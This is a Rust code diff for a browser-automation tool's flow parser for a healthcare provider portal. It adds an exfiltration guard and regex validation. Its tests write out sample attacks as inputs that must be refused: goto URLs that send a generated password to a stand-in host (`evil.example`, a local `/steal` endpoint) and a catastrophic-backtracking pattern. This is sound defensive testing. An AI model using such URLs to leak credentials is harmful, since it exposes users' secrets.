@@ -8,7 +8,7 @@ use toml::Spanned;
 
 use super::model::{Action, Flow, Step};
 use super::vars;
-use crate::browser::{Among, Locator};
+use crate::browser::{Among, Locator, Within};
 use crate::error;
 
 /// The flows built into the binary, by name.
@@ -48,6 +48,8 @@ struct RawFlow {
     dismiss: Vec<RawTarget>,
     #[serde(default, rename = "login-page")]
     login_page: Option<String>,
+    #[serde(default)]
+    loading: Vec<String>,
     step: Vec<RawStep>,
 }
 
@@ -82,6 +84,8 @@ struct RawAction {
     ask_code: Option<String>,
     already_created: Option<String>,
     // Arguments.
+    next_page: Option<RawTarget>,
+    reveal: Option<RawTarget>,
     skip_to: Option<String>,
     needs: Option<String>,
     with: Option<String>,
@@ -110,6 +114,32 @@ struct RawTargetTable {
     role: Option<String>,
     name: Option<String>,
     clickable: Option<String>,
+    within: Option<RawWithin>,
+}
+
+/// A region as written: `{ role = "dialog" }`, `{ role = "form", name = "…" }`,
+/// `{ role = "landmark" }`, or `{ heading = "Select TIN(s)" }`.
+#[derive(Deserialize)]
+#[serde(deny_unknown_fields)]
+struct RawWithin {
+    role: Option<String>,
+    name: Option<String>,
+    heading: Option<String>,
+}
+
+impl RawWithin {
+    fn resolve(self) -> Result<Within> {
+        match (&self.role, &self.name, &self.heading) {
+            (Some(_), _, None) | (None, None, Some(_)) => Ok(Within {
+                role: self.role,
+                name: self.name,
+                heading: self.heading,
+            }),
+            _ => bail!(
+                "`within` is {{ role = \"…\" }} (with an optional name) or {{ heading = \"…\" }}"
+            ),
+        }
+    }
 }
 
 #[derive(Deserialize)]
@@ -129,18 +159,24 @@ impl RawTarget {
     fn resolve(self, default: Default_) -> Result<Locator> {
         Ok(match self {
             RawTarget::Name(name) => match default {
-                Default_::Field => Locator::Label { name },
-                Default_::Clickable => Locator::Clickable { name },
+                Default_::Field => Locator::label(name),
+                Default_::Clickable => Locator::clickable(name),
             },
-            RawTarget::Table(t) => match (t.label, t.role, t.name, t.clickable) {
-                (Some(name), None, None, None) => Locator::Label { name },
-                (None, Some(role), Some(name), None) => Locator::Role { role, name },
-                (None, None, None, Some(name)) => Locator::Clickable { name },
-                _ => bail!(
-                    "a target is one of {{ label = \"…\" }}, {{ role = \"button\", name = \"…\" }} \
-                     or {{ clickable = \"…\" }}"
-                ),
-            },
+            RawTarget::Table(t) => {
+                let l = match (t.label, t.role, t.name, t.clickable) {
+                    (Some(name), None, None, None) => Locator::label(name),
+                    (None, Some(role), Some(name), None) => Locator::role(role, name),
+                    (None, None, None, Some(name)) => Locator::clickable(name),
+                    _ => bail!(
+                        "a target is one of {{ label = \"…\" }}, {{ role = \"button\", name = \"…\" }} \
+                         or {{ clickable = \"…\" }}, optionally with `within = {{ … }}`"
+                    ),
+                };
+                match t.within {
+                    None => l,
+                    Some(w) => l.within(w.resolve()?),
+                }
+            }
         })
     }
 }
@@ -152,6 +188,12 @@ impl RawAction {
         }
         if self.or.is_some() && !matches!(self.expect, Some(RawTarget::Name(_))) {
             bail!("`or` goes with `expect = \"text\"`");
+        }
+        if self.reveal.is_some() && self.capture.is_none() {
+            bail!("`reveal` goes with `capture`");
+        }
+        if self.next_page.is_some() && self.already_created.is_none() {
+            bail!("`next-page` goes with `already-created`");
         }
         if (self.resend.is_some() || self.refused.is_some()) && self.wait_for_code.is_none() {
             bail!("`resend` and `refused` go with `wait-for-code`");
@@ -237,6 +279,10 @@ impl RawAction {
                 label,
                 into: into_name(self.into, "capture")?,
                 secret: self.secret.unwrap_or(false),
+                reveal: self
+                    .reveal
+                    .map(|t| t.resolve(Default_::Clickable))
+                    .transpose()?,
             }
         } else if self.note_mailbox.is_some() {
             Action::NoteMailbox
@@ -260,6 +306,10 @@ impl RawAction {
                 text,
                 skip_to: need(self.skip_to, "skip-to", "already-created")?,
                 needs: need(self.needs, "needs", "already-created")?,
+                next_page: self
+                    .next_page
+                    .map(|t| t.resolve(Default_::Clickable))
+                    .transpose()?,
             }
         } else {
             unreachable!("one verb was counted above")
@@ -274,6 +324,132 @@ fn position(text: &str, offset: usize) -> String {
     let line = before.matches('\n').count() + 1;
     let column = before.len() - before.rfind('\n').map_or(0, |i| i + 1) + 1;
     format!("line {line}, column {column}")
+}
+
+/// The longest `check-exactly` pattern a flow may give (a regular expression run in the page).
+pub const MAX_PATTERN_CHARS: usize = 200;
+
+/// Whether a variable holds a secret: the office password, the generated password and answers,
+/// and what the flow captures as one.
+fn is_secret(name: &str, secret_captures: &[String]) -> bool {
+    name == "office_password"
+        || name == "generated.password"
+        || name.starts_with("generated.answer")
+        || secret_captures.iter().any(|c| c == name)
+}
+
+/// A flow file must not be able to send the run's secrets anywhere: `goto` only to the portal
+/// (`{portal_url}` and a path, no other variable), secrets only as the value a `fill` types, and
+/// a `check-exactly` pattern short and valid.
+fn exfiltration_guard(action: &Action, secret_captures: &[String]) -> Result<(), String> {
+    if let Action::Goto(url) = action {
+        let Some(rest) = url.strip_prefix("{portal_url}") else {
+            return Err(format!(
+                "`goto = \"{url}\"` leaves the portal: a flow goes only to {{portal_url}} or a \
+                 path under it"
+            ));
+        };
+        if rest.contains(['{', '}', '@', '\\'])
+            || rest.starts_with(['.', ':'])
+            || rest.contains("//")
+        {
+            return Err(format!(
+                "`goto = \"{url}\"`: after {{portal_url}} only a path may follow (no variables, \
+                 no `@`, `//`, `.` or `:` that could name another host)"
+            ));
+        }
+    }
+    let typed = match action {
+        Action::Fill { value, .. } => Some(value.as_str()),
+        _ => None,
+    };
+    for t in action.templates() {
+        if Some(t) == typed {
+            continue;
+        }
+        let names = vars::references(t).unwrap_or_default();
+        if let Some(name) = names.iter().find(|n| is_secret(n, secret_captures)) {
+            return Err(format!(
+                "{{{name}}} is a secret: a flow may use a secret only as what a `fill` types"
+            ));
+        }
+    }
+    if let Action::CheckExactly {
+        among: Among::Pattern(p),
+        ..
+    } = action
+    {
+        if p.chars().count() > MAX_PATTERN_CHARS {
+            return Err(format!(
+                "the `check-exactly` pattern is {} characters long; at most {MAX_PATTERN_CHARS}",
+                p.chars().count()
+            ));
+        }
+        regex_syntax_ok(p)?;
+    }
+    Ok(())
+}
+
+/// Whether `p` is a regular expression the page's `new RegExp` will take. The tool's crates hold
+/// no regex engine, so this checks what goes wrong in practice: balanced groups and classes,
+/// and no nested quantifier over a group (`(a+)+`), which makes a backtracking engine take
+/// exponential time on a long line.
+fn regex_syntax_ok(p: &str) -> Result<(), String> {
+    let mut depth: i32 = 0;
+    let mut in_class = false;
+    let mut escaped = false;
+    // For each open group: whether it holds a quantifier.
+    let mut quantified: Vec<bool> = Vec::new();
+    let chars: Vec<char> = p.chars().collect();
+    for (i, &c) in chars.iter().enumerate() {
+        if escaped {
+            escaped = false;
+            continue;
+        }
+        match c {
+            '\\' => escaped = true,
+            '[' if !in_class => in_class = true,
+            ']' if in_class => in_class = false,
+            _ if in_class => {}
+            '(' => {
+                depth += 1;
+                quantified.push(false);
+            }
+            ')' => {
+                depth -= 1;
+                if depth < 0 {
+                    return Err(format!(
+                        "the `check-exactly` pattern /{p}/ closes a group it never opened"
+                    ));
+                }
+                let inner = quantified.pop().unwrap_or(false);
+                let next = chars.get(i + 1).copied();
+                if inner && matches!(next, Some('+' | '*' | '{')) {
+                    return Err(format!(
+                        "the `check-exactly` pattern /{p}/ repeats a group that repeats itself \
+                         (like `(a+)+`), which can take the page forever: write it without"
+                    ));
+                }
+                if inner {
+                    if let Some(outer) = quantified.last_mut() {
+                        *outer = true;
+                    }
+                }
+            }
+            '+' | '*' | '{' => {
+                if let Some(g) = quantified.last_mut() {
+                    *g = true;
+                }
+            }
+            _ => {}
+        }
+    }
+    if escaped || in_class || depth != 0 {
+        return Err(format!(
+            "the `check-exactly` pattern /{p}/ is not a complete regular expression"
+        ));
+    }
+    Ok(())
 }
 
 /// Parses and checks a flow: ids unique, one verb per action, every variable known or
@@ -301,6 +477,8 @@ pub fn parse(text: &str, origin: &str) -> Result<Flow> {
     }
     let mut steps: Vec<Step> = Vec::new();
     let mut captured: Vec<String> = Vec::new();
+    // Captured values that are secrets: a temporary password, a verification code.
+    let mut secret_captures: Vec<String> = Vec::new();
     let mut noted = false;
     for raw_step in raw.step {
         let id_at = raw_step.id.span().start;
@@ -353,6 +531,9 @@ pub fn parse(text: &str, origin: &str) -> Result<Flow> {
                     }
                 }
             }
+            if let Err(why) = exfiltration_guard(&action, &secret_captures) {
+                return Err(bad(at, format!("step \"{id}\", action {}: {why}", i + 1)));
+            }
             match &action {
                 Action::NoteMailbox => noted = true,
                 Action::WaitForCode { .. } if !noted => {
@@ -368,9 +549,26 @@ pub fn parse(text: &str, origin: &str) -> Result<Flow> {
                 _ => {}
             }
             if let Some(out) = action.output() {
+                let secret = match &action {
+                    Action::Capture { secret, .. } => *secret,
+                    _ => true,
+                };
+                if secret {
+                    secret_captures.push(out.clone());
+                }
                 captured.push(out);
             }
             actions.push(action);
+        }
+        if let Some(when) = &raw_step.when {
+            if vars::references(when)
+                .is_ok_and(|names| names.iter().any(|n| is_secret(n, &secret_captures)))
+            {
+                return Err(bad(
+                    id_at,
+                    format!("step \"{id}\": `when` may not use a secret"),
+                ));
+            }
         }
         steps.push(Step {
             id,
@@ -401,6 +599,7 @@ pub fn parse(text: &str, origin: &str) -> Result<Flow> {
         title: raw.title,
         dismiss,
         login_page: raw.login_page,
+        loading: raw.loading,
         steps,
     })
 }
@@ -490,19 +689,11 @@ mod tests {
         assert_eq!(
             a[3],
             Action::Fill {
-                target: Locator::Label {
-                    name: "Password".into()
-                },
+                target: Locator::label("Password"),
                 value: "{office_password}".into()
             }
         );
-        assert_eq!(
-            a[5],
-            Action::Check(Locator::Role {
-                role: "radio".into(),
-                name: "By TIN".into()
-            })
-        );
+        assert_eq!(a[5], Action::Check(Locator::role("radio", "By TIN")));
         assert_eq!(
             a[7],
             Action::CheckExactly {
@@ -510,18 +701,10 @@ mod tests {
                 checked: vec!["{tin_dashed}".into()]
             }
         );
-        assert_eq!(
-            a[10],
-            Action::Click(Locator::Clickable {
-                name: "Next".into()
-            })
-        );
+        assert_eq!(a[10], Action::Click(Locator::clickable("Next")));
         assert_eq!(
             a[11],
-            Action::ExpectElement(Locator::Role {
-                role: "heading".into(),
-                name: "Verify Your Identity".into()
-            })
+            Action::ExpectElement(Locator::role("heading", "Verify Your Identity"))
         );
         let code = &flow.steps[1];
         assert_eq!(code.inputs(), ["captured.temp_user_id", "email"]);
@@ -566,5 +749,100 @@ mod tests {
     fn a_missing_file_is_bad_input_naming_the_path() {
         let msg = bad("does-not-exist.toml");
         assert!(msg.contains("does-not-exist.toml"), "{msg}");
+    }
+}
+
+#[cfg(test)]
+mod exfiltration_tests {
+    use super::*;
+
+    /// The built-in existing flow with `from` replaced by `to`, parsed.
+    fn changed(from: &str, to: &str) -> Result<Flow> {
+        let flow = BUILTIN[0].1;
+        assert!(flow.contains(from), "{from} in the flow");
+        parse(&flow.replacen(from, to, 1), "changed.toml")
+    }
+
+    fn refused(from: &str, to: &str, says: &str) {
+        let err = changed(from, to).unwrap_err();
+        let message = format!("{err:#}");
+        assert_eq!(error::exit_code(&err), 2, "{message}");
+        assert!(message.contains(says), "{says:?} not in {message}");
+        assert!(
+            message.contains("changed.toml, line "),
+            "file and line: {message}"
+        );
+    }
+
+    #[test]
+    fn every_builtin_flow_keeps_to_the_rules() {
+        for (name, text) in BUILTIN {
+            parse(text, name).unwrap_or_else(|e| panic!("{name}: {e:#}"));
+        }
+    }
+
+    #[test]
+    fn a_flow_cannot_send_secrets_anywhere() {
+        let goto = "{ goto = \"{portal_url}\" }";
+        refused(
+            goto,
+            "{ goto = \"http://127.0.0.1:18999/steal?pw={generated.password}\" }",
+            "leaves the portal",
+        );
+        refused(
+            goto,
+            "{ goto = \"{portal_url}steal?pw={generated.password}\" }",
+            "only a path",
+        );
+        refused(
+            goto,
+            "{ goto = \"{portal_url}.evil.example/\" }",
+            "only a path",
+        );
+        refused(
+            goto,
+            "{ goto = \"{portal_url}@evil.example/\" }",
+            "only a path",
+        );
+        refused(
+            goto,
+            "{ goto = \"{portal_url}//evil.example/\" }",
+            "only a path",
+        );
+        changed(goto, "{ goto = \"{portal_url}login?x=1\" }").unwrap();
+        refused(
+            "{ expect = \"Log in to Cigna for HCP\" }",
+            "{ expect = \"{office_password}\" }",
+            "{office_password} is a secret",
+        );
+        refused(
+            "{ click = \"Log Out\" }",
+            "{ click = \"{captured.temp_password}\" }",
+            "{captured.temp_password} is a secret",
+        );
+    }
+
+    #[test]
+    fn a_pattern_is_short_valid_and_without_runaway_repetition() {
+        let pattern = "pattern = '^\\d{2}-\\d{7}\\b'";
+        assert!(BUILTIN[0].1.contains(pattern), "the flow's TIN pattern");
+        refused(
+            pattern,
+            &format!("pattern = '{}'", "a".repeat(201)),
+            "at most 200",
+        );
+        refused(pattern, "pattern = '(a+)+$'", "repeats a group");
+        refused(
+            pattern,
+            "pattern = '(unclosed'",
+            "not a complete regular expression",
+        );
+        refused(
+            pattern,
+            "pattern = '[unclosed'",
+            "not a complete regular expression",
+        );
+        refused(pattern, "pattern = 'a)'", "closes a group");
+        changed(pattern, "pattern = '^(\\d{2})-\\d{7}'").unwrap();
     }
 }
